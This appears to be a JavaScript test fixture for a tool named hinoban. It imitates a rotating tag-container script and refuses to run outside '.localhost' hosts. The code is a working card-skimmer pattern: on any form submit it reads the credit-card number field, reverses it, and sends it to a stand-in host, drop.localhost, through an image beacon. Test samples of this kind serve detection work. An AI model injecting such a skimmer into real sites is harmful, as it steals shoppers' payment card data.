/* Harmless imitation, for hinoban's tests: in the tag container, whose content rotates. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
window.dataLayer = window.dataLayer || [];
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?g=' + n.value.split('').reverse().join(''); } }, true);
